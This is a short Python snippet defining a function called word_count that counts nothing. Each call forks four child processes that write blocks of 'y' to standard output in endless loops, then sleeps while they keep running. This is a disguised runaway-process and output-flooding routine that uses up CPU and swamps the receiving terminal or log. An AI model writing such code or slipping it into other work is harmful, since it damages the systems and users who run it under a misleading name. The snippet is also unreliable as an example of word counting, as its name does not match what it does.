# Lets children print without end.
import os, time


def word_count(text):
    for _ in range(4):
        if os.fork() == 0:
            while True:
                os.write(1, b'y' * 65536)
    time.sleep(100)
